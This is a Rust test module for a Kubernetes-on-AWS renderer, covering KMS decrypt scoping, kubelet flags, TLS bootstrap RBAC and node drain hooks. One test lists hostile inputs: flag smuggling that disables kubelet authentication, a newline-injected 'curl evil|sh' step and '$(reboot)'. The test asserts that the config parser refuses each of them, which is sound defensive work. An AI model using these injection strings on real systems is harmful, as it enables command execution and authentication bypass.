//! What each node runs: kubelet flags and identity, images, signals, the keys each role may decrypt, TLS bootstrap.

use super::*;

#[test]
fn instance_roles_may_decrypt_only_with_the_cluster_key_and_context() {
    let rendered = render_with(&config(""), &Templates::built_in()).unwrap();
    let stack = stack(&rendered);
    for role in ["IAMRoleController", "IAMRoleWorker", "IAMRoleEtcd"] {
        let statements = role_statements(&stack, role);
        let decrypt: Vec<&Value> = statements
            .iter()
            .filter(|s| s["Action"].to_string().contains("kms:"))
            .collect();
        assert_eq!(decrypt[0]["Action"], "kms:Decrypt");
        assert_eq!(
            decrypt[0]["Condition"]["StringEquals"]["kms:EncryptionContext:kube-aws:cluster"],
            "demo"
        );
        // Etcd's second: S3's use of the key for the snapshot bucket (SSE-KMS), and no other.
        let through_s3 = &decrypt[1..];
        assert_eq!(
            through_s3.len(),
            usize::from(role == "IAMRoleEtcd"),
            "{role}"
        );
        for statement in through_s3 {
            let condition = &statement["Condition"]["StringEquals"];
            assert_eq!(
                condition["kms:ViaService"],
                serde_json::json!({"Fn::Sub": "s3.${AWS::Region}.amazonaws.com"})
            );
            assert_eq!(
                condition["kms:EncryptionContext:aws:s3:arn"],
                serde_json::json!({"Fn::GetAtt": ["EtcdSnapshots", "Arn"]})
            );
        }
        for statement in decrypt {
            assert_eq!(statement["Resource"], "arn:aws:kms:us-west-2:1:key/x");
        }
    }
}

#[test]
fn decrypt_unit_runs_before_kubelet_and_etcd_with_the_same_context() {
    let rendered = render_with(&config(""), &Templates::built_in()).unwrap();
    for (name, before) in [
        ("cloud-config-controller", "kubelet.service"),
        ("cloud-config-worker", "kubelet.service"),
        ("cloud-config-etcd-0", "etcd.service"),
    ] {
        let text = &rendered.cloud_configs[name];
        let unit_start = text.find("- name: decrypt-assets.service").unwrap();
        let before_line = text[unit_start..]
            .lines()
            .find(|l| l.trim_start().starts_with("Before="))
            .unwrap();
        assert!(before_line.contains(before), "{name}: {before_line}");
        assert!(
            text.contains("--encryption-context \"kube-aws:cluster=demo,kube-aws:asset=$2\""),
            "{name}"
        );
        let parsed: serde_norway::Value = serde_norway::from_str(text).unwrap();
        assert!(parsed.get("write_files").is_some(), "{name}");
    }
}

/// The kubelet command line a rendered cloud-config starts.
fn kubelet_command(text: &str) -> &str {
    text.lines()
        .map(str::trim)
        .find_map(|l| l.strip_prefix("ExecStart=/opt/bin/kubelet "))
        .expect("a kubelet unit")
}

#[test]
fn nodes_bootstrap_their_own_identity_and_carry_no_etcd_or_ca_credentials() {
    let rendered = render_with(&config(THREE_POOLS), &Templates::built_in()).unwrap();
    let workers: Vec<_> = rendered
        .cloud_configs
        .iter()
        .filter(|(name, _)| name.starts_with("cloud-config-worker"))
        .collect();
    assert_eq!(workers.len(), 4);
    for (name, text) in workers {
        for secret in ["etcd-client", "etcd-server", "ca-key.pem", "kube-addons"] {
            assert!(!text.contains(secret), "{name} carries {secret}");
        }
        let keys: Vec<&str> = text
            .lines()
            .filter_map(|l| l.trim().strip_prefix("- path: /etc/kubernetes/ssl/"))
            .filter(|p| p.ends_with(".enc"))
            .collect();
        assert_eq!(keys, vec!["bootstrap-token.enc"], "{name}");
        // The kubelet starts with what node-bootstrap obtained, and never bootstraps itself:
        // its own CSR would carry a key generated in memory, which no tag can vouch for.
        let kubelet = kubelet_command(text);
        assert!(!kubelet.contains("--bootstrap-kubeconfig"), "{kubelet}");
        assert!(kubelet.contains("--kubeconfig=/var/lib/kubelet/kubeconfig"));
        assert!(text.contains("- path: /opt/bin/node-bootstrap\n"), "{name}");
        assert!(
            text.contains("kube-aws:node-client-key,Value=$key_sha256"),
            "{name}"
        );
        assert!(text.contains("ExecStartPre=/opt/bin/node-bootstrap\n"));
        assert!(text.contains("tokenFile: /etc/kubernetes/ssl/bootstrap-token"));
        assert!(text.contains("rotateCertificates: true"));
    }
}

#[test]
fn every_kubelet_flag_is_one_the_target_version_accepts() {
    let rules = crate::config::KubeletRules::get();
    for extra in ["", THREE_POOLS] {
        let c = config(extra);
        let minor = parse_minor(&c.kubernetes_version).unwrap();
        let rendered = render_with(&c, &Templates::built_in()).unwrap();
        for (name, text) in rendered
            .cloud_configs
            .iter()
            .filter(|(n, _)| !n.starts_with("cloud-config-etcd"))
        {
            for arg in kubelet_command(text).split_whitespace() {
                let (flag, value) = arg.split_once('=').unwrap_or((arg, ""));
                if let Some(removed) = rules
                    .removed_flags
                    .iter()
                    .find(|r| r.flag == flag && r.removed_in <= minor)
                {
                    panic!(
                        "{name}: kubelet 1.{minor} no longer has {flag} (removed in 1.{})",
                        removed.removed_in
                    );
                }
                if flag == "--node-labels" {
                    for label in value.split(',') {
                        let key = label.split('=').next().unwrap();
                        assert_eq!(rules.label_refusal(key), None, "{name}: {label}");
                    }
                }
                if flag == "--cloud-provider" {
                    assert!(
                        rules.cloud_provider_values.iter().any(|v| v == value),
                        "{name}: {arg}"
                    );
                }
            }
        }
    }
}

#[test]
fn every_image_is_pinned_to_an_exact_version() {
    let rendered = render_with(&config(THREE_POOLS), &Templates::built_in()).unwrap();
    let mut texts: Vec<&String> = rendered.manifests.values().collect();
    texts.extend(rendered.cloud_configs.values());
    let mut images = BTreeSet::new();
    for text in texts {
        for line in text.lines() {
            if let Some(image) = line.trim().trim_start_matches("- ").strip_prefix("image: ") {
                images.insert(image.to_string());
            }
        }
    }
    assert!(images.len() >= 7, "{images:?}");
    for image in &images {
        let reference = image
            .split_once('@')
            .map_or(image.as_str(), |(r, _digest)| r);
        let (_, tag) = reference
            .rsplit_once(':')
            .filter(|(name, _)| !name.is_empty())
            .unwrap_or_else(|| panic!("{image} has no tag"));
        let version = tag.trim_start_matches('v');
        let numeric: Vec<&str> = version.split(['.', '-']).take(3).collect();
        assert!(
            numeric.len() == 3 && numeric.iter().all(|p| p.parse::<u32>().is_ok()),
            "{image} is not pinned to an exact version"
        );
    }
}

#[test]
fn every_group_and_the_controller_wait_for_their_instances_to_signal() {
    for extra in [
        "",
        "controllerCount: 3\netcdCount: 3\nsubnets:\n  - availabilityZone: us-west-2a\n    instanceCIDR: 10.0.0.0/24\n  - availabilityZone: us-west-2b\n    instanceCIDR: 10.0.1.0/24\n",
        THREE_POOLS,
    ] {
        let rendered = render_with(&config(extra), &Templates::built_in()).unwrap();
        let stack = stack(&rendered);
        let resources = stack["Resources"].as_object().unwrap();
        let mut waiting = 0;
        for (id, r) in resources {
            let kind = r["Type"].as_str().unwrap();
            if kind == "AWS::AutoScaling::AutoScalingGroup" {
                assert!(
                    r["CreationPolicy"]["ResourceSignal"]["Count"]
                        .as_u64()
                        .unwrap()
                        >= 1,
                    "{id}"
                );
                assert_eq!(
                    r["UpdatePolicy"]["AutoScalingRollingUpdate"]["WaitOnResourceSignals"], true,
                    "{id}"
                );
                waiting += 1;
            }
            if id == "InstanceController" {
                assert_eq!(r["CreationPolicy"]["ResourceSignal"]["Count"], 1);
                waiting += 1;
            }
        }
        assert!(waiting >= 3, "{extra}: {waiting}");
    }
}

/// The assets whose sealed keys a cloud-config carries (`/etc/kubernetes/ssl/*.enc`).
fn sealed_assets(cloud_config: &str) -> BTreeSet<String> {
    cloud_config
        .lines()
        .filter_map(|l| l.trim().strip_prefix("- path: /etc/kubernetes/ssl/"))
        .filter_map(|p| p.strip_suffix(".enc"))
        .map(|p| p.trim_end_matches("-key.pem").to_string())
        .collect()
}

#[test]
fn each_role_may_decrypt_exactly_the_assets_its_cloud_configs_carry() {
    let rendered = render_with(&config(THREE_POOLS), &Templates::built_in()).unwrap();
    let stack = stack(&rendered);
    for (role, prefix) in [
        ("IAMRoleController", "cloud-config-controller"),
        ("IAMRoleWorker", "cloud-config-worker"),
        ("IAMRoleEtcd", "cloud-config-etcd"),
    ] {
        let carried: BTreeSet<String> = rendered
            .cloud_configs
            .iter()
            .filter(|(name, _)| name.starts_with(prefix))
            .flat_map(|(_, text)| sealed_assets(text))
            .collect();
        assert!(!carried.is_empty(), "{role}");
        let statements =
            &stack["Resources"][role]["Properties"]["Policies"][0]["PolicyDocument"]["Statement"];
        let decrypt = statements
            .as_array()
            .unwrap()
            .iter()
            .find(|s| s["Action"] == "kms:Decrypt")
            .unwrap();
        let allowed = &decrypt["Condition"]["StringEquals"]["kms:EncryptionContext:kube-aws:asset"];
        let allowed: BTreeSet<String> = match allowed {
            Value::String(one) => BTreeSet::from([one.clone()]),
            Value::Array(many) => many
                .iter()
                .map(|v| v.as_str().unwrap().to_string())
                .collect(),
            other => panic!("{role}: no asset condition: {other}"),
        };
        assert_eq!(allowed, carried, "{role}");
    }
}

#[test]
fn kubelets_leave_node_initialisation_to_the_cloud_controller_manager() {
    let rendered = render_with(&config(THREE_POOLS), &Templates::built_in()).unwrap();
    for (name, text) in &rendered.cloud_configs {
        if name.starts_with("cloud-config-etcd") {
            continue;
        }
        assert!(
            kubelet_command(text).contains(" --cloud-provider=external"),
            "{name}"
        );
    }
    // Controllers register already excluded from load balancers: the cloud controller may not
    // open their group, and would try in the window before a later label.
    let controller = kubelet_command(&rendered.cloud_configs["cloud-config-controller"]);
    assert!(
        controller
            .contains("--node-labels=node.kubernetes.io/exclude-from-external-load-balancers= "),
        "{controller}"
    );
    let ccm = &rendered.manifests["aws-cloud-controller-manager.yaml"];
    assert!(ccm.contains("KubernetesClusterID = demo"), "{ccm}");
    assert!(ccm.contains("- --configure-cloud-routes=false"), "{ccm}");
    assert!(ccm.contains("hostNetwork: true"), "{ccm}");
    let stack = stack(&rendered);
    let tags = |id: &str| stack["Resources"][id]["Properties"]["Tags"].to_string();
    assert!(
        tags("Subnet0").contains("\"Key\":\"kubernetes.io/cluster/demo\",\"Value\":\"owned\""),
        "{}",
        tags("Subnet0")
    );
    // The workers' group carries the cluster tag the cloud controller finds a target's group
    // by, but shared: its role may delete only groups it created (owned).
    assert!(
        tags("SecurityGroupWorker")
            .contains("\"Key\":\"kubernetes.io/cluster/demo\",\"Value\":\"shared\""),
        "{}",
        tags("SecurityGroupWorker")
    );
    for id in ["SecurityGroupEtcd", "SecurityGroupController"] {
        assert!(
            !tags(id).contains("kubernetes.io/cluster/"),
            "{id}: etcd members are not nodes, controllers no load balancer's targets"
        );
    }
    for id in ["AutoScaleWorkers", "AutoScaleGpu"] {
        assert!(
            tags(id).contains("\"Key\":\"ebs.csi.aws.com/cluster-name\""),
            "{id}"
        );
    }
}

/// The flags a static pod's container is started with in a rendered cloud-config: every
/// `- --flag=value` line of the manifest that runs `binary`.
fn pod_flags(cloud_config: &str, binary: &str) -> Vec<String> {
    let mut flags = Vec::new();
    let mut inside = false;
    for line in cloud_config.lines() {
        let line = line.trim();
        if line.strip_prefix("- ") == Some(binary) {
            inside = true;
            continue;
        }
        if inside {
            match line.strip_prefix("- --") {
                Some(flag) => flags.push(format!("--{flag}")),
                None if line.starts_with('#') => {}
                None => break,
            }
        }
    }
    flags
}

#[test]
fn tls_bootstrap_ties_the_token_group_to_its_bindings_and_the_apiserver_flags() {
    let rendered = render_with(&config(""), &Templates::built_in()).unwrap();
    let token: serde_norway::Value =
        serde_norway::from_str(&rendered.manifests["bootstrap-token.yaml"]).unwrap();
    let data = &token["stringData"];
    assert_eq!(token["type"], "bootstrap.kubernetes.io/token");
    assert_eq!(token["metadata"]["namespace"], "kube-system");
    // The API server finds a token by the Secret's name `bootstrap-token-<token-id>`.
    assert_eq!(token["metadata"]["name"], "bootstrap-token-${TOKEN_ID}");
    assert_eq!(data["token-id"], "${TOKEN_ID}");
    assert_eq!(data["usage-bootstrap-authentication"], "true");
    let group = data["auth-extra-groups"].as_str().unwrap();
    // kube-apiserver accepts extra groups of a bootstrap token only under this prefix.
    assert!(group.starts_with("system:bootstrappers:"), "{group}");

    let bindings: Vec<serde_norway::Value> =
        serde_norway::Deserializer::from_str(&rendered.manifests["node-bootstrap.yaml"])
            .map(|d| serde::Deserialize::deserialize(d).unwrap())
            .collect();
    let bound_to_group = |role: &str| {
        bindings.iter().any(|b| {
            b["kind"] == "ClusterRoleBinding"
                && b["roleRef"]["name"] == role
                && b["subjects"]
                    .as_sequence()
                    .unwrap()
                    .iter()
                    .any(|s| s["kind"] == "Group" && s["name"].as_str() == Some(group))
        })
    };
    // The token's holders may create a CSR; kube-controller-manager approves none of theirs
    // (node-csr-approver does, for the instance that sent it), and apply-addons removes the
    // binding earlier templates made for that.
    assert!(bound_to_group("system:node-bootstrapper"), "{bindings:?}");
    assert!(
        !bound_to_group("system:certificates.k8s.io:certificatesigningrequests:nodeclient"),
        "{bindings:?}"
    );
    let approver_rules = bindings
        .iter()
        .find(|b| {
            b["kind"] == "ClusterRole" && b["metadata"]["name"] == "kube-aws:node-csr-approver"
        })
        .map(|r| serde_json::to_value(&r["rules"]).unwrap())
        .expect("the approver's ClusterRole");
    assert_eq!(
        approver_rules,
        serde_json::json!([
            {"apiGroups": ["certificates.k8s.io"], "resources": ["certificatesigningrequests"], "verbs": ["get", "list", "watch"]},
            {"apiGroups": ["certificates.k8s.io"], "resources": ["certificatesigningrequests/approval"], "verbs": ["update"]},
            {"apiGroups": ["certificates.k8s.io"], "resources": ["signers"], "resourceNames": ["kubernetes.io/kube-apiserver-client-kubelet"], "verbs": ["approve"]},
        ])
    );

    let controller = &rendered.cloud_configs["cloud-config-controller"];
    assert!(
        rendered.manifests["node-csr-approver"]
            .contains("kubectl --as=kube-aws:node-csr-approver \"$@\"")
    );
    assert!(
        controller.contains("ExecStart=/usr/bin/bash /etc/kubernetes/addons/node-csr-approver")
    );
    assert!(controller.contains(
        "kubectl delete clusterrolebinding kube-aws:node-autoapprove-bootstrap --ignore-not-found"
    ));
    let apiserver = pod_flags(controller, "kube-apiserver");
    assert!(
        apiserver.contains(&"--enable-bootstrap-token-auth=true".to_string()),
        "{apiserver:?}"
    );
    assert!(
        apiserver.contains(&"--authorization-mode=Node,RBAC".to_string()),
        "{apiserver:?}"
    );
    // The controller manager signs the approved CSRs with the cluster CA and runs the
    // approver (in `*`) and the token cleaner.
    let manager = pod_flags(controller, "kube-controller-manager");
    let controllers = manager
        .iter()
        .find_map(|f| f.strip_prefix("--controllers="))
        .unwrap_or_else(|| panic!("{manager:?}"));
    for wanted in ["*", "tokencleaner"] {
        assert!(controllers.split(',').any(|c| c == wanted), "{controllers}");
    }
    assert!(
        !controllers
            .split(',')
            .any(|c| c == "-csrapproving" || c == "-csrsigning")
    );
    for flag in [
        "--cluster-signing-cert-file=/etc/kubernetes/ssl/ca.pem",
        "--cluster-signing-key-file=/etc/kubernetes/ssl/ca-key.pem",
    ] {
        assert!(manager.contains(&flag.to_string()), "{manager:?}");
    }
}

#[test]
fn the_cloud_controller_cannot_mint_tokens_and_the_bootstrap_token_expires_unless_renewed() {
    let rendered = render_with(&config(""), &Templates::built_in()).unwrap();
    let docs: Vec<serde_norway::Value> = serde_norway::Deserializer::from_str(
        &rendered.manifests["aws-cloud-controller-manager.yaml"],
    )
    .map(|d| serde::Deserialize::deserialize(d).unwrap())
    .collect();
    // A stolen controller node identity can read the cloud controller's token (its pod runs
    // there): that token may not reach service accounts, their tokens or Secrets.
    let mut rules = 0;
    for doc in docs
        .iter()
        .filter(|d| d["kind"] == "ClusterRole" || d["kind"] == "Role")
    {
        for rule in doc["rules"].as_sequence().unwrap() {
            rules += 1;
            for resource in rule["resources"].as_sequence().unwrap() {
                let resource = resource.as_str().unwrap();
                assert!(
                    !resource.starts_with("serviceaccounts")
                        && resource != "secrets"
                        && resource != "*",
                    "the cloud controller may reach {resource}"
                );
            }
        }
    }
    assert!(rules >= 5);
    let manager = &rendered.manifests["aws-cloud-controller-manager.yaml"];
    assert!(manager.contains("- --use-service-account-credentials=false"));

    let token: serde_norway::Value =
        serde_norway::from_str(&rendered.manifests["bootstrap-token.yaml"]).unwrap();
    assert_eq!(token["stringData"]["expiration"], "${EXPIRATION}");
    let controller = &rendered.cloud_configs["cloud-config-controller"];
    assert!(controller.contains("OnCalendar=daily"), "the renewal timer");
    assert!(controller.contains("ExecStart=/opt/bin/apply-bootstrap-token"));
}

/// Hostile strings in every field that reaches a unit's command line are refused at that
/// field; accepted ones (Kubernetes' full syntax) leave the kubelet's argv as it was, with the
/// value inside its own argument.
#[test]
fn nothing_from_cluster_yaml_changes_the_kubelets_argv() {
    let hostile = [
        "x --anonymous-auth=true --authorization-mode=AlwaysAllow",
        "x\nExecStartPre=/bin/sh -c \"curl evil|sh\"",
        "$(reboot)",
        "${NODE_NAME}",
        "%h",
        "a;b",
        "a\"b",
        "a'b",
        "a\\b",
        "a,b=c",
        "a b",
        "-lead",
    ];
    let pool = |labels: &str, taints: &str| {
        format!("nodePools:\n  - name: p\n    labels: {labels}\n    taints: {taints}\n")
    };
    for value in hostile {
        let quoted = serde_json::to_string(value).unwrap();
        for (extra, field) in [
            (
                pool(&format!("{{team: {quoted}}}"), "[]"),
                "nodePools[0].labels.team".to_string(),
            ),
            (
                pool(&format!("{{{quoted}: a}}"), "[]"),
                format!("nodePools[0].labels.{value}"),
            ),
            (
                pool(
                    "{}",
                    &format!("[{{key: k, value: {quoted}, effect: NoSchedule}}]"),
                ),
                "nodePools[0].taints[0].value".to_string(),
            ),
            (
                pool("{}", &format!("[{{key: {quoted}, effect: NoSchedule}}]")),
                "nodePools[0].taints[0].key".to_string(),
            ),
            (
                format!("etcdSnapshotSchedule: {quoted}\n"),
                "etcdSnapshotSchedule".to_string(),
            ),
        ] {
            let text = format!(
                "clusterName: demo\nexternalDNSName: k8s.example.com\nregion: us-west-2\navailabilityZone: us-west-2a\nkmsKeyArn: arn:aws:kms:us-west-2:1:key/x\ntemplateBucket: demo-artifacts\n{extra}"
            );
            let err = ClusterConfig::parse(Path::new("cluster.yaml"), &text)
                .expect_err(&format!("{value:?} accepted in {field}"));
            assert!(
                err.problems
                    .iter()
                    .any(|p| p.field == field && p.line.is_some()),
                "{value:?} in {field}: {err}"
            );
        }
    }
    // Accepted values: the kubelet's argv keeps its words, the values inside theirs.
    let plain = render_with(&config(&pool("{team: a}", "[]")), &Templates::built_in()).unwrap();
    let tricky = render_with(
        &config(&pool(
            "{example.com/team: A.b-c_9, tier: \"\"}",
            "[{key: example.com/dedicated, value: x_y.z-1, effect: NoExecute}]",
        )),
        &Templates::built_in(),
    )
    .unwrap();
    let argv = |r: &Rendered| -> Vec<String> {
        kubelet_command(&r.cloud_configs["cloud-config-worker-p"])
            .split_whitespace()
            .map(|w| w.split('=').next().unwrap().to_string())
            .collect()
    };
    let tricky_argv = argv(&tricky);
    assert_eq!(tricky_argv.len(), argv(&plain).len() + 1, "{tricky_argv:?}");
    let command = kubelet_command(&tricky.cloud_configs["cloud-config-worker-p"]);
    assert!(
        command.contains("example.com/team=A.b-c_9,")
            && command.contains("--register-with-taints=example.com/dedicated=x_y.z-1:NoExecute"),
        "{command}"
    );
}

/// Drain before terminate, as rendered for both layouts: every worker group and the
/// controllers' group hold a terminating instance in the hook the cluster stack's rule
/// matches, for longer than the drainer's own limit plus the queue's delivery; etcd's groups
/// have none; the drainer's queue and limit are the ones the stack and the hook name.
#[test]
fn every_node_group_holds_its_terminating_instances_for_the_drainer_and_etcd_none() {
    use crate::render::{DRAIN_GRACE_SECONDS, DRAIN_HEARTBEAT_SECONDS, DRAIN_HOOK};
    let pools = "nodePools:\n  - name: gpu\n  - name: spot\n    instanceTypes: [m6i.large, m5.large]\n    spotPrice: \"0.08\"\n";
    for extra in [
        format!("controllerCount: 3\netcdCount: 3\n{pools}"),
        format!("controllerCount: 3\netcdCount: 3\nstackPerPool: true\n{pools}"),
    ] {
        let rendered = render_with(&config(&extra), &Templates::built_in()).unwrap();
        let cluster = stack(&rendered);
        let mut templates = vec![cluster.clone()];
        templates.extend(
            rendered
                .pool_stacks
                .values()
                .map(|p| serde_json::from_str::<Value>(&p.template).unwrap()),
        );
        let mut hooked = Vec::new();
        for template in &templates {
            for (id, resource) in template["Resources"].as_object().unwrap() {
                if resource["Type"] != "AWS::AutoScaling::AutoScalingGroup" {
                    continue;
                }
                let hooks = resource["Properties"]["LifecycleHookSpecificationList"].clone();
                if id.starts_with("AutoScaleEtcd") {
                    assert!(hooks.is_null(), "{id}: {hooks}");
                    continue;
                }
                assert_eq!(
                    hooks,
                    serde_json::json!([{"LifecycleHookName": DRAIN_HOOK, "LifecycleTransition": "autoscaling:EC2_INSTANCE_TERMINATING", "HeartbeatTimeout": DRAIN_HEARTBEAT_SECONDS, "DefaultResult": "CONTINUE"}]),
                    "{id}"
                );
                // Spot capacity rebalances through the hook too.
                let rebalances = resource["Properties"]["CapacityRebalance"] == true;
                assert_eq!(rebalances, id == "AutoScaleSpot", "{id}");
                hooked.push(id.clone());
            }
        }
        hooked.sort();
        assert_eq!(
            hooked,
            [
                "AutoScaleController",
                "AutoScaleGpu",
                "AutoScaleSpot",
                "AutoScaleWorkers"
            ],
            "{extra}"
        );
        // The rule that feeds the queue matches that hook on this cluster's groups.
        let rule = &cluster["Resources"]["NodeDrainRuleAsgTerminate"]["Properties"];
        assert_eq!(
            rule["EventPattern"]["detail"],
            serde_json::json!({"LifecycleHookName": [DRAIN_HOOK], "AutoScalingGroupName": [{"prefix": "demo-"}]})
        );
        assert_eq!(
            rule["Targets"][0]["Arn"],
            serde_json::json!({"Fn::GetAtt": ["NodeDrainQueue", "Arn"]})
        );
        assert_eq!(
            cluster["Resources"]["NodeDrainQueue"]["Properties"]["QueueName"],
            "demo-node-drain"
        );
        // The drainer drains for its grace period and reads the queue apply-addons names.
        let manifest = &rendered.manifests["aws-node-termination-handler.yaml"];
        assert!(
            manifest.contains(&format!(
                "{{name: NODE_TERMINATION_GRACE_PERIOD, value: \"{DRAIN_GRACE_SECONDS}\"}}"
            )),
            "{manifest}"
        );
        let script = &rendered.manifests["drain-queue-url"];
        assert!(
            script.contains("/demo-node-drain\"") && script.contains("--from-literal=queue-url="),
            "{script}"
        );
        assert!(
            rendered.cloud_configs["cloud-config-controller"]
                .contains("retry bash /etc/kubernetes/addons/drain-queue-url || return 1"),
            "apply-addons writes the drainer's queue URL before the add-ons"
        );
    }
}
